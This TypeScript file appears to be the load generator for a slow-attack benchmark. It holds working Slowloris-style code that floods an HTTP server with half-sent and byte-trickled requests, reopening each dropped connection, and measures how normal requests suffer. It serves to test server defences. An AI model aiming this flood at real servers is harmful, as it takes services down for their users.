/**
 * The load of the slow-attack benchmark, run inside the benchmark's network
 * namespace (`ip netns exec`), against one HTTP server:
 *  - attackers: connections that send the start of a request head and go
 *    quiet; each one the server closes is opened again (after a short pause),
 *    as a real slow attack keeps up its pressure;
 *  - tricklers: connections that send a head one byte a second;
 *  - normal requests: a bounded number, one every interval, each on a new
 *    connection (`Connection: close`), timed from connect to the last byte.
 * Prints one JSON line (LoadReport) when the normal requests are done, or
 * after `--attack-ms` with no normal requests.
 */
import { connect, type Socket } from 'node:net';

export interface LoadReport {
  normal: { sent: number; ok: number; failed: number; failures: Record<string, number>; latenciesMs: number[] };
  attack: { opened: number; closedByServer: number; answered408: number; connectErrors: number };
}

interface Options {
  host: string;
  port: number;
  attackers: number;
  tricklers: number;
  /** Normal requests to send (0: attack only, for `attackMs`). */
  requests: number;
  intervalMs: number;
  timeoutMs: number;
  /** Time the attack runs before the first normal request. */
  settleMs: number;
  attackMs: number;
}

const PARTIAL_HEAD = 'GET / HTTP/1.1\r\nHost: victim\r\nX-Slow: ';
const TRICKLE_HEAD = 'GET / HTTP/1.1\r\nHost: victim\r\nX-Trickle: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n';
const REOPEN_MS = 50;

function parseOptions(argv: string[]): Options {
  const o: Options = { host: '', port: 80, attackers: 500, tricklers: 20, requests: 100, intervalMs: 100, timeoutMs: 5000, settleMs: 3000, attackMs: 0 };
  for (const arg of argv) {
    const m = /^--([a-z-]+)=(.*)$/.exec(arg);
    if (!m) throw new Error(`load: unknown argument ${arg}`);
    const key = m[1]!.replace(/-([a-z])/g, (_, c: string) => c.toUpperCase()) as keyof Options;
    if (!(key in o)) throw new Error(`load: unknown option --${m[1]}`);
    (o as unknown as Record<string, string | number>)[key] = key === 'host' ? m[2]! : Number(m[2]);
  }
  if (!o.host) throw new Error('load: --host=ADDRESS is required');
  return o;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

class Attack {
  readonly stats = { opened: 0, closedByServer: 0, answered408: 0, connectErrors: 0 };
  private readonly sockets = new Set<Socket>();
  private running = true;

  constructor(private readonly o: Options) {}

  start(): void {
    for (let i = 0; i < this.o.attackers; i++) this.open(false);
    for (let i = 0; i < this.o.tricklers; i++) this.open(true);
  }

  private open(trickle: boolean): void {
    if (!this.running) return;
    const socket = connect({ host: this.o.host, port: this.o.port });
    this.sockets.add(socket);
    let connected = false;
    let timer: NodeJS.Timeout | null = null;
    socket.on('connect', () => {
      connected = true;
      this.stats.opened++;
      if (!trickle) {
        socket.write(PARTIAL_HEAD);
        return;
      }
      let next = 0;
      timer = setInterval(() => {
        if (next < TRICKLE_HEAD.length) socket.write(TRICKLE_HEAD[next++]!);
      }, 1000);
    });
    socket.on('data', (d) => {
      if (d.toString('latin1').startsWith('HTTP/1.1 408')) this.stats.answered408++;
    });
    socket.on('error', () => {
      if (!connected) this.stats.connectErrors++;
    });
    socket.on('close', () => {
      if (timer) clearInterval(timer);
      this.sockets.delete(socket);
      if (!this.running) return;
      if (connected) this.stats.closedByServer++;
      setTimeout(() => this.open(trickle), REOPEN_MS);
    });
  }

  stop(): void {
    this.running = false;
    for (const s of this.sockets) s.destroy();
  }
}

/** One GET on a new connection: its latency in ms, or why it failed. */
function normalRequest(o: Options): Promise<number | string> {
  return new Promise((resolve) => {
    const start = performance.now();
    const socket = connect({ host: o.host, port: o.port });
    let reply = '';
    let settled = false;
    const done = (result: number | string): void => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => done('timeout'), o.timeoutMs);
    socket.on('connect', () => socket.write('GET / HTTP/1.1\r\nHost: normal\r\nConnection: close\r\n\r\n'));
    socket.on('data', (d) => (reply += d.toString('latin1')));
    socket.on('error', (err: NodeJS.ErrnoException) => done(err.code ?? 'error'));
    socket.on('close', () => {
      if (!reply) return done('empty reply');
      done(/^HTTP\/1\.1 200 /.test(reply) && reply.endsWith('hello') ? performance.now() - start : `status ${reply.slice(9, 12)}`);
    });
  });
}

export async function main(argv: string[]): Promise<number> {
  const o = parseOptions(argv);
  const attack = new Attack(o);
  attack.start();
  const report: LoadReport = { normal: { sent: 0, ok: 0, failed: 0, failures: {}, latenciesMs: [] }, attack: attack.stats };
  if (o.requests === 0) {
    await sleep(o.attackMs);
  } else {
    await sleep(o.settleMs);
    const pending: Promise<void>[] = [];
    for (let i = 0; i < o.requests; i++) {
      report.normal.sent++;
      pending.push(
        normalRequest(o).then((r) => {
          if (typeof r === 'number') {
            report.normal.ok++;
            report.normal.latenciesMs.push(Math.round(r * 1000) / 1000);
          } else {
            report.normal.failed++;
            report.normal.failures[r] = (report.normal.failures[r] ?? 0) + 1;
          }
        }),
      );
      await sleep(o.intervalMs);
    }
    await Promise.all(pending);
  }
  attack.stop();
  report.normal.latenciesMs.sort((a, b) => a - b);
  console.log(JSON.stringify(report));
  return 0;
}
